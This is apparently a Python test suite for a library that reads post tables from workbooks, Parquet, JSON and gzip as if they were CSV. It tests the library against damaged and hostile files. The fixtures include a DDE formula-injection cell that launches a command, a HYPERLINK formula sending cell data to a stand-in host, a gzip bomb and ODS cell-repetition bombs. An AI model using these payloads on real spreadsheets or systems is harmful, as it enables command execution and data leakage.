"""Tables in other files than CSV: workbooks, Parquet, JSON arrays and gzip are read as the same CSV is."""

import csv
import datetime as dt
import gzip
import io
import json
import tomllib
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import xlsxwriter
from hypothesis import given
from hypothesis import strategies as st

from ingest.answers import Answers
from ingest.plan import plan_reading
from ingest.record import Captured, Message, Naming, Noticed, Profile, Record, Refused
from ingest.sources import SOURCES, table
from ingest.sources.reading.head import Head
from ingest.sources.table import workbook_size

HEADER = ("post", "time", "by", "name", "text", "phone")
ROWS: list[tuple[Any, ...]] = [
    ("11", "2024-03-01T10:00:00+01:00", "100000000000001", "Amin", "سفر, call +44 20 7946 0123", "+44 20 7946 0124"),
    ("12", "2024-03-01T11:00:00+01:00", "100000000000002", "Petra", "=cmd|' /C calc'!A0", ""),
    ("13", "no time", "100000000000001", "Amin", "one bad row", ""),
    ("14", "2024-03-02T10:00:00+01:00", "100000000000001", "Amin S.", "two\nlines", "020 7946 0125"),
]
MAPPING = """
name = "posts of a desk"
platform = "facebook"
regions = ["GB"]
[[row]]
kind = "post"
id = "post"
time = "time"
text = "text"
account = { id = "by", name = "name" }
phones = "phone"
"""
OBJECTS = [dict(zip(HEADER, row, strict=True)) for row in ROWS]


def make_csv(rows: Any = ROWS, header: Any = HEADER) -> bytes:
    text = io.StringIO(newline="")
    writer = csv.writer(text)
    writer.writerows([header, *rows])
    return text.getvalue().encode()


def make_xlsx(**sheets: Any) -> bytes:
    """Give a workbook; a sheet is a list of rows, or a function that writes it."""
    made = io.BytesIO()
    book = xlsxwriter.Workbook(made, {"in_memory": True, "remove_timezone": True, "strings_to_urls": False})
    for name, rows in sheets.items():
        sheet = book.add_worksheet(name)
        if callable(rows):
            rows(book, sheet)
            continue
        for at, cells in enumerate(rows):
            for column, cell in enumerate(cells):
                (sheet.write_string if isinstance(cell, str) else sheet.write)(at, column, cell)
    book.close()
    return made.getvalue()


ODS_HEAD = (
    '<?xml version="1.0" encoding="UTF-8"?><office:document-content'
    ' xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
    ' xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"'
    ' xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:spreadsheet>'
)
ODS_TYPE = "application/vnd.oasis.opendocument.spreadsheet"


def make_ods(body: str) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("mimetype", ODS_TYPE)
        archive.writestr(
            "META-INF/manifest.xml",
            '<?xml version="1.0"?><manifest:manifest'
            ' xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry'
            f' manifest:full-path="/" manifest:media-type="{ODS_TYPE}"/></manifest:manifest>',
        )
        archive.writestr(
            "content.xml", f"{ODS_HEAD}{body}</office:spreadsheet></office:body></office:document-content>"
        )
    return made.getvalue()


def make_ods_rows(rows: Any) -> str:
    from xml.sax.saxutils import escape

    def cell(text: str) -> str:
        lines = "".join(f"<text:p>{escape(line)}</text:p>" for line in text.split("\n"))
        return f'<table:table-cell office:value-type="string">{lines}</table:table-cell>' if text else EMPTY

    return "".join(f"<table:table-row>{''.join(map(cell, row))}</table:table-row>" for row in rows)


EMPTY = "<table:table-cell/>"


def make_parquet(rows: Any = OBJECTS, **kept: Any) -> bytes:
    made = io.BytesIO()
    pq.write_table(rows if isinstance(rows, pa.Table) else pa.Table.from_pylist(rows), made, **kept)
    return made.getvalue()


FORMS: dict[str, Callable[[], bytes]] = {
    "xlsx": lambda: make_xlsx(Posts=[HEADER, *ROWS]),
    "ods": lambda: make_ods(f'<table:table table:name="Posts">{make_ods_rows([HEADER, *ROWS])}</table:table>'),
    "parquet": make_parquet,
    "json": lambda: json.dumps(OBJECTS, ensure_ascii=False, indent=1).encode(),
    "one-line.json": lambda: json.dumps(OBJECTS).encode(),
    "utf16.json": lambda: json.dumps(OBJECTS, ensure_ascii=False).encode("utf-16"),
    "csv.gz": lambda: gzip.compress(make_csv(), mtime=0),
    "jsonl.gz": lambda: gzip.compress(b"".join(json.dumps(one).encode() + b"\n" for one in OBJECTS), mtime=0),
    "json.gz": lambda: gzip.compress(json.dumps(OBJECTS).encode(), mtime=0),
    "two.csv.gz": lambda: gzip.compress(make_csv()[:100]) + gzip.compress(make_csv()[100:]) + b"\0" * 300,
}
each_form = pytest.mark.parametrize("form", FORMS)

Reader = Callable[..., list[Record | Refused]]


@pytest.fixture
def read(tmp_path: Path) -> Reader:
    def reader(content: bytes, mapping: str = MAPPING, **given: Any) -> list[Record | Refused]:
        path = tmp_path / "file"
        path.write_bytes(content)
        return list(table.read_table(path, Answers(mapping=tomllib.loads(mapping), **given)))

    return reader


def of(kind: Any, things: Any) -> list[Any]:
    return [thing for thing in things if isinstance(thing, kind)]


def says(things: Any) -> set[Any]:
    """Give what things say, without their places."""
    kept: list[Any] = []
    for thing in things:
        if isinstance(thing, Message):
            kept.append((thing.post, thing.at, thing.author, thing.text, thing.hints))
        elif isinstance(thing, Naming):
            kept.append((thing.subject, thing.name, thing.seen))
        elif isinstance(thing, Refused):
            kept.append(thing.found)
        elif isinstance(thing, Captured):
            kept.append((thing.at, thing.basis))
    return {str(one) for one in kept}


# Every form says what the CSV says


@each_form
def test_every_form_says_what_the_csv_says(form: str, read: Reader) -> None:
    assert says(read(FORMS[form]())) == says(read(make_csv()))
    assert len(of(Refused, read(FORMS[form]()))) == 1


@each_form
@pytest.mark.parametrize("name", ["file", "file.csv", "file.json", "file.xlsx", "file.txt", "WhatsApp Chat with A.txt"])
def test_the_table_source_alone_claims_it_whatever_it_is_called(form: str, name: str, tmp_path: Path) -> None:
    path = tmp_path / "file"
    path.write_bytes(FORMS[form]())
    head = Head.of(path, name)
    assert [one for one, source in SOURCES.items() if source.claims(head)] == ["table"]


@each_form
def test_a_row_is_named_by_its_place(form: str, read: Reader) -> None:
    place = {
        "xlsx": "Posts!row 4",
        "ods": "Posts!row 4",
        "parquet": "row 3",
        "jsonl.gz": "line 3",
        "csv.gz": "line 4",
        "two.csv.gz": "line 4",
    }.get(form, "object 3")
    [refused] = of(Refused, read(FORMS[form]()))
    assert refused.place == place
    assert b"one bad row" in refused.raw


@each_form
@pytest.mark.slow
def test_damage_at_every_50th_byte_is_told_and_what_stands_before_it_is_kept(form: str, read: Reader) -> None:
    whole = FORMS[form]()
    sound = len(of(Message, read(whole)))
    for at in range(0, len(whole), 50):
        cut, junk = whole[:at], whole[:at] + b"\xff\x00\x7f" + whole[at + 3 :]
        for content in (cut, junk):
            things = read(content)
            assert len(of(Message, things)) <= sound
            assert all(isinstance(one, Record | Refused) for one in things)


@pytest.mark.parametrize("form", ["json", "one-line.json", "csv.gz", "jsonl.gz"])
def test_objects_and_lines_before_a_cut_are_kept(form: str, read: Reader) -> None:
    rows = [{**OBJECTS[0], "post": str(number)} for number in range(3000)]
    whole = {
        "json": json.dumps(rows, indent=1).encode(),
        "one-line.json": json.dumps(rows).encode(),
        "csv.gz": gzip.compress(make_csv([row.values() for row in rows])),
        "jsonl.gz": gzip.compress(b"".join(json.dumps(one).encode() + b"\n" for one in rows)),
    }[form]
    things = read(whole[: len(whole) * 2 // 3])
    assert 1500 < len(of(Message, things)) < 2300
    assert of(Refused, things)


@given(st.binary(max_size=60), st.integers(0, 8000))
def test_no_damage_breaks_a_workbook(tmp_path_factory: pytest.TempPathFactory, junk: bytes, at: int) -> None:
    path = tmp_path_factory.mktemp("damaged") / "file"
    whole = FORMS["xlsx"]()
    path.write_bytes(whole[:at] + junk + whole[at + len(junk) :])
    head = Head.of(path, "file.xlsx")
    if table.claims_table(head):
        assert list(table.read_table(path, Answers(mapping=tomllib.loads(MAPPING)))) is not None


# JSON arrays


def test_a_damaged_object_costs_itself_and_no_part_of_it_becomes_a_row(read: Reader) -> None:
    text = json.dumps(
        [
            {"post": str(n), "time": "2024-03-01T10:00:00Z", "text": "x", "by": "1", "in": {"post": "9"}}
            for n in range(1, 10)
        ]
    )
    things = read(text.replace('"post": "4"', '"post": 4"').encode())
    assert [message.post.id for message in of(Message, things)] == [f"facebook:post{n}" for n in range(1, 10) if n != 4]
    assert [(one.place, one.expected) for one in of(Refused, things)] == [("object 4", "an object a line")]


def test_long_numbers_of_an_array_stay_whole(read: Reader) -> None:
    [message] = of(Message, read(b'[{"post": 12345678901234567891, "time": 1709287200, "by": 5, "text": "x"}]'))
    assert message.post.id == "facebook:post12345678901234567891"


@pytest.mark.parametrize(
    "text",
    [
        "[]",
        "[1, 2]",
        '["a"]',
        '[{"_": "Message", "id": 1}]',
        '[{"messages": [1]}]',
        '[{"string_list_data": []}]',
        "[{}]",
    ],
)
def test_arrays_of_other_things_are_no_tables(text: str) -> None:
    assert not table.claims_table(Head("a.json", text.encode(), Path()))


# Workbooks


def test_each_sheet_is_a_table_of_its_own_and_one_that_does_not_fit_is_told(read: Reader) -> None:
    things = read(
        make_xlsx(One=[HEADER, *ROWS[:1]], Notes=[("dear all",), ("x",)], Two=[("List",), (), HEADER, *ROWS[1:2]])
    )
    assert [(one.place, one.post.id) for one in of(Message, things)] == [
        ("One!row 2", "facebook:post11"),
        ("Two!row 4", "facebook:post12"),
    ]
    assert [(note.place, note.says) for note in of(Noticed, things) if "not read" in note.says] == [
        ("Notes", "the sheet has no columns that the mapping names: not read, rows below the first: 1"),
        ("Two", "the header is line 3; what stands above it was not read"),
    ]


def test_hidden_sheets_and_rows_are_read_and_told(read: Reader) -> None:
    def hide(book: Any, sheet: Any) -> None:
        for at, cells in enumerate([HEADER, *ROWS[:2]]):
            sheet.write_row(at, 0, cells)
        sheet.set_row(1, None, None, {"hidden": True})
        sheet.hide() if sheet.name == "Two" else sheet.very_hidden()

    things = read(make_xlsx(One=[HEADER, *ROWS[:1]], Two=hide, Three=hide))
    assert len(of(Message, things)) == 5
    assert [note.place for note in of(Noticed, things) if "hidden" in note.says] == ["Two", "Three"]


@pytest.mark.parametrize("from_1904", [False, True])
def test_dates_of_both_counts_are_cells_without_a_zone(from_1904: bool, read: Reader) -> None:
    made = io.BytesIO()
    book = xlsxwriter.Workbook(made, {"in_memory": True, "date_1904": from_1904, "remove_timezone": True})
    form = book.add_format({"num_format": "dd/mm/yyyy hh:mm:ss"})
    sheet = book.add_worksheet()
    sheet.write_row(0, 0, HEADER)
    sheet.write_row(1, 0, ["11", "", "5", "Amin", "x"])
    sheet.write_datetime(1, 1, dt.datetime(2024, 3, 1, 10, 30, 15, tzinfo=dt.UTC), form)
    book.close()
    [message] = of(Message, read(made.getvalue(), time_zone="Europe/Berlin"))
    assert message.at == dt.datetime(2024, 3, 1, 9, 30, 15, tzinfo=dt.UTC)


def test_values_are_read_and_not_formulas(read: Reader) -> None:
    def write(book: Any, sheet: Any) -> None:
        sheet.write_row(0, 0, HEADER)
        sheet.write_row(1, 0, ["11", ROWS[0][1], "5", "Amin"])
        sheet.write_formula(1, 4, '=HYPERLINK("https://evil.example/"&A2)', None, "what it shows")

    [message] = of(Message, read(make_xlsx(One=write)))
    assert message.text == "what it shows"


def test_numbers_where_ids_and_telephones_belong_are_read_and_told(read: Reader) -> None:
    rows = [
        (11, ROWS[0][1], 100000000000001, "Amin", "x", 447700900123),
        (12, ROWS[0][1], "5", "Amin", "y", "+44 20 7946 0124"),
    ]
    things = read(make_xlsx(One=[HEADER, *rows]))
    assert next((one.post.id, one.author.id, [hint.value for hint in one.hints]) for one in of(Message, things)) == (
        "facebook:post11",
        "facebook:100000000000001",
        ["447700900123"],
    )
    [note] = [note for note in of(Noticed, things) if "numbers" in note.says]
    assert (note.place, note.says.rpartition(": ")[2]) == ("One!row 2", "4, the first '100000000000001'")


def test_a_number_that_lost_digits_refuses_its_row_as_in_a_csv(read: Reader) -> None:
    things = read(make_xlsx(One=[HEADER, (11, ROWS[0][1], 7300000000000000123, "Amin", "x")]))
    [refused] = of(Refused, things)
    assert "is what a spreadsheet left of an id" in refused.found
    assert b"Amin" in refused.raw


def test_sheets_of_one_mapping_each_have_rows_of_their_own(read: Reader) -> None:
    mapping = """
    time_zone = "UTC"
    platform = "telegram"
    [sheets."Who is who"]
    [[sheets."Who is who".row]]
    kind = "profile"
    account = { id = "id", name = "name" }
    [sheets.Posts]
    header_row = 2
    [[sheets.Posts.row]]
    kind = "post"
    time = "when"
    text = "text"
    account = "id"
    """
    book = make_xlsx(
        **{
            "Who is who": [("id", "name"), ("user5", "Amin")],
            "Posts": [("of the desk",), ("id", "when", "text"), ("user5", "2024-03-01 10:00", "x")],
            "Left out": [("id", "name"), ("user6", "Petra")],
        }
    )
    things = read(book, mapping)
    assert [one.subject.id for one in of(Profile, things)] == ["telegram:user5"]
    assert [one.author.id for one in of(Message, things)] == ["telegram:user5"]
    assert "Left out" in [note.place for note in of(Noticed, things)]


# What would fill the memory


def test_a_sheet_with_a_cell_far_away_is_refused_and_the_others_are_read(read: Reader) -> None:
    def write(book: Any, sheet: Any) -> None:
        sheet.write_row(0, 0, HEADER)
        sheet.write(1_000_000, 200, "x")

    things = read(make_xlsx(Far=write, Posts=[HEADER, *ROWS]))
    assert next((one.place, "save the sheet as CSV" in one.found) for one in of(Refused, things)) == ("Far", True)
    assert len(of(Message, things)) == 3


@pytest.mark.parametrize(
    "rows",
    [
        '<table:table-row table:number-rows-repeated="1000000"><table:table-cell table:number-columns-repeated="999"'
        ' office:value-type="string"><text:p>x</text:p></table:table-cell></table:table-row>',
        '<table:table-row><table:table-cell table:number-columns-repeated="16000"/><table:table-cell'
        ' office:value-type="float" office:value="1"/></table:table-row><table:table-row'
        ' table:number-rows-repeated="900000"><table:table-cell/></table:table-row><table:table-row>'
        '<table:table-cell office:value-type="float" office:value="1"/></table:table-row>',
    ],
)
def test_repeated_cells_of_an_ods_are_counted_before_it_is_opened(rows: str, read: Reader) -> None:
    [refused] = of(Refused, read(make_ods(f'<table:table table:name="Posts">{rows}</table:table>')))
    assert "more than 2,500,000 cells" in refused.found


def test_empty_cells_to_the_end_of_an_ods_take_nothing(read: Reader) -> None:
    tail = (
        '<table:table-row table:number-rows-repeated="1048000"><table:table-cell'
        ' table:number-columns-repeated="16384"/></table:table-row>'
    )
    body = f'<table:table table:name="Posts">{make_ods_rows([HEADER, *ROWS])}{tail}</table:table>'
    assert len(of(Message, read(make_ods(body)))) == 3


def test_one_long_text_in_many_cells_is_counted(monkeypatch: pytest.MonkeyPatch, read: Reader) -> None:
    monkeypatch.setattr(workbook_size, "TEXT", 100_000)
    things = read(make_xlsx(Posts=[HEADER, *([("1", "2024", "5", "Amin", "x" * 5_000)] * 30)]))
    assert "characters of text" in of(Refused, things)[0].found


def test_a_gzip_bomb_ends_where_it_is_told(monkeypatch: pytest.MonkeyPatch, read: Reader) -> None:
    from ingest.sources.table import packed

    monkeypatch.setattr(packed, "SMALL", 1_000_000)
    whole = make_csv([(str(n), ROWS[0][1], "5", "Amin", "x" * 1000, "") for n in range(20_000)])
    things = read(gzip.compress(whole))
    assert "a gzip bomb" in of(Refused, things)[-1].found
    assert 500 < len(of(Message, things)) < 20_000


# Parquet


def test_zones_of_a_parquet_are_honoured_and_times_without_one_wait_for_an_answer(tmp_path: Path) -> None:
    at = [dt.datetime.fromisoformat("2024-03-01T10:30:00")]
    rows = {"post": ["1"], "by": [5], "name": ["A"], "text": ["x"]}
    aware = pa.table({**rows, "time": pa.array(at, pa.timestamp("ns")).cast(pa.timestamp("ns", "Asia/Kabul"))})
    naive = pa.table({**rows, "time": pa.array(at, pa.timestamp("ms"))})
    for name, columns in (("aware", aware), ("naive", naive)):
        pq.write_table(columns, tmp_path / f"{name}.parquet")
    (tmp_path / "m.toml").write_text('files = ["*.parquet"]\n' + MAPPING)
    first, second = plan_reading([tmp_path], scratch=tmp_path / "scratch")
    assert (first.held, second.needs) == (None, ("time_zone",))
    [message] = of(Message, table.read_table(tmp_path / "aware.parquet", Answers(mapping=tomllib.loads(MAPPING))))
    assert message.at == dt.datetime(2024, 3, 1, 10, 30, tzinfo=dt.UTC)


def test_lists_and_objects_of_a_parquet_are_named_as_those_of_json(read: Reader) -> None:
    rows = [{"post": "1", "time": "2024-03-01T10:00:00Z", "by": {"id": 5}, "text": ["a", "b"]}]
    mapping = MAPPING.replace('"by", name = "name"', '"by.id"').replace('phones = "phone"', "")
    [message] = of(Message, read(make_parquet(rows), mapping))
    assert (message.author.id, message.text) == ("facebook:5", "a\nb")


def test_a_damaged_group_of_rows_costs_itself(read: Reader) -> None:
    rows = [{**OBJECTS[0], "post": str(n + 1), "text": f"{n} {'x' * 50}"} for n in range(300)]
    whole = bytearray(make_parquet(rows, row_group_size=100, compression="zstd", write_page_checksum=True))
    second = pq.ParquetFile(io.BytesIO(bytes(whole))).metadata.row_group(1).column(4).data_page_offset
    whole[second + 10 : second + 40] = b"\xff" * 30
    things = read(bytes(whole))
    numbers = {int(one.post.id.removeprefix("facebook:post")) for one in of(Message, things)}
    assert numbers >= {*range(1, 101), *range(201, 301)}
    assert "rows up to 200 are lost" in of(Refused, things)[0].found


# Planning


@each_form
def test_mappings_beside_it_and_dry_runs_work_as_for_a_csv(form: str, tmp_path: Path) -> None:
    (tmp_path / f"file.{form}").write_bytes(FORMS[form]())
    [waiting] = plan_reading([tmp_path], scratch=tmp_path / "scratch")
    assert waiting.needs == ("mapping",)
    assert '"by"' in (waiting.draft or "")
    (tmp_path / "m.toml").write_text('files = ["file.*"]\n' + MAPPING)
    [ready] = plan_reading([tmp_path], scratch=tmp_path / "scratch")
    assert (ready.source, ready.held) == ("table", None)


def test_a_workbook_of_known_sheets_needs_no_mapping(tmp_path: Path) -> None:
    accounts = [("platform", "kind", "id", "name"), ("telegram", "account", "user5", "Amin")]
    posts = [("platform", "time", "account_id", "text"), ("telegram", "2024-03-01T10:00:00Z", "user5", "x")]
    (tmp_path / "book.xlsx").write_bytes(make_xlsx(A=accounts, P=posts, Empty=[]))
    [one] = plan_reading([tmp_path], scratch=tmp_path / "scratch")
    assert one.held is None
    things = list(table.read_table(tmp_path / "book.xlsx", one.answers))
    assert (len(of(Profile, things)), len(of(Message, things))) == (1, 1)


def test_the_draft_of_a_workbook_is_a_mapping_of_all_its_sheets(tmp_path: Path) -> None:
    accounts = [("platform", "kind", "id", "name"), ("telegram", "account", "user5", "Amin")]
    (tmp_path / "book.xlsx").write_bytes(make_xlsx(**{"My accounts": accounts, "Posts": [HEADER, *ROWS]}))
    [one] = plan_reading([tmp_path], scratch=tmp_path / "scratch")
    assert "sheets without a mapping: 'Posts'" in (one.held or "")
    (tmp_path / "m.toml").write_text((one.draft or "").replace('"..." # as facebook', '"facebook"'))
    [ready] = plan_reading([tmp_path], scratch=tmp_path / "scratch")
    assert ready.held is None, ready.held
    things = list(table.read_table(tmp_path / "book.xlsx", ready.answers))
    assert (len(of(Profile, things)), len(of(Message, things))) == (1, 3)


def test_a_mapping_that_names_a_sheet_which_is_not_there_holds_the_workbook(tmp_path: Path) -> None:
    (tmp_path / "book.xlsx").write_bytes(FORMS["xlsx"]())
    sheets = MAPPING.replace("[[row]]", "[sheets.Post]\n[[sheets.Post.row]]")
    (tmp_path / "m.toml").write_text('files = ["book.xlsx"]\n' + sheets)
    [one] = plan_reading([tmp_path], scratch=tmp_path / "scratch")
    assert "no sheet 'Post' (did you mean 'Posts'?)" in (one.held or "")


# Old workbooks


def make_xls(rows: Any, *, from_1904: bool = False) -> bytes:
    """Give an old workbook (BIFF8 in a compound file) with one sheet of texts and numbers."""

    def record(kind: int, data: bytes = b"") -> bytes:
        return kind.to_bytes(2, "little") + len(data).to_bytes(2, "little") + data

    def begin(what: int) -> bytes:
        return record(0x809, (0x0600).to_bytes(2, "little") + what.to_bytes(2, "little") + bytes(12))

    def text(value: str, length: int) -> bytes:
        return len(value).to_bytes(length, "little") + b"\x01" + value.encode("utf-16-le")

    import struct

    cells = b""
    for at, row in enumerate(rows):
        for column, value in enumerate(row):
            place = struct.pack("<HHH", at, column, int(isinstance(value, dt.datetime)))
            if isinstance(value, str):
                cells += record(0x204, place + text(value, 2))
            elif isinstance(value, dt.datetime):
                days = (value - dt.datetime.fromisoformat("1904-01-01" if from_1904 else "1899-12-30")) / dt.timedelta(
                    1
                )
                cells += record(0x203, place + struct.pack("<d", days))
            else:
                cells += record(0x203, place + struct.pack("<d", value))
    size = struct.pack("<IIHHH", 0, len(rows), 0, 20, 0)
    sheet = begin(0x10) + record(0x200, size) + cells + record(0x0A)
    formats = record(0xE0, struct.pack("<HH", 0, 0) + bytes(16)) + record(0xE0, struct.pack("<HH", 0, 22) + bytes(16))
    head = begin(0x05) + record(0x42, b"\xb0\x04") + record(0x22, bytes([from_1904, 0])) + formats
    name = b"\x05\x00Calls"
    at = len(head) + len(record(0x85, bytes(6) + name)) + 4
    stream = head + record(0x85, at.to_bytes(4, "little") + bytes(2) + name) + record(0x0A) + sheet
    stream = stream.ljust(max(4096, -(-len(stream) // 512) * 512), b"\0")
    count = len(stream) // 512
    table_ = [0xFFFFFFFD, 0xFFFFFFFE, *range(3, count + 2), 0xFFFFFFFE]
    fat = b"".join(one.to_bytes(4, "little") for one in table_).ljust(512, b"\xff")

    def entry(name: str, kind: int, child: int, start: int, size: int) -> bytes:
        raw = (name + "\0").encode("utf-16-le")
        none = b"\xff" * 4
        return (
            raw.ljust(64, b"\0")
            + len(raw).to_bytes(2, "little")
            + bytes([kind, 1])
            + none
            + none
            + child.to_bytes(4, "little", signed=True)
            + bytes(36)
            + start.to_bytes(4, "little")
            + size.to_bytes(8, "little")
        )

    directory = entry("Root Entry", 5, 1, 0xFFFFFFFE, 0) + entry("Workbook", 2, -1, 2, len(stream)) + bytes(256)
    header = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + bytes(16)
        + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
        + bytes(6)
        + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
        + struct.pack("<I", 0)
    ).ljust(512, b"\xff")
    return header + fat + directory + stream


@pytest.mark.parametrize("from_1904", [False, True])
def test_an_old_workbook_is_read_as_a_new_one(from_1904: bool, read: Reader, tmp_path: Path) -> None:
    rows = [HEADER, ("11", dt.datetime.fromisoformat("2024-03-01T10:30:00"), 5, "Amin", "سفر", "+44 20 7946 0124")]
    whole = make_xls(rows, from_1904=from_1904)
    [message] = of(Message, read(whole, time_zone="UTC"))
    assert (message.place, message.author.id, message.text) == ("Calls!row 2", "facebook:5", "سفر")
    assert message.at == dt.datetime(2024, 3, 1, 10, 30, tzinfo=dt.UTC)
    (tmp_path / "a.xls").write_bytes(whole)
    assert table.claims_table(Head.of(tmp_path / "a.xls", "a.xls"))


@pytest.mark.slow
def test_damage_at_every_50th_byte_of_an_old_workbook_is_told(read: Reader) -> None:
    whole = make_xls([HEADER, *ROWS])
    assert len(of(Message, read(whole))) == 3
    for at in range(0, len(whole), 50):
        for content in (whole[:at], whole[:at] + b"\xff\x00\x7f" + whole[at + 3 :]):
            assert all(isinstance(one, Record | Refused) for one in read(content))
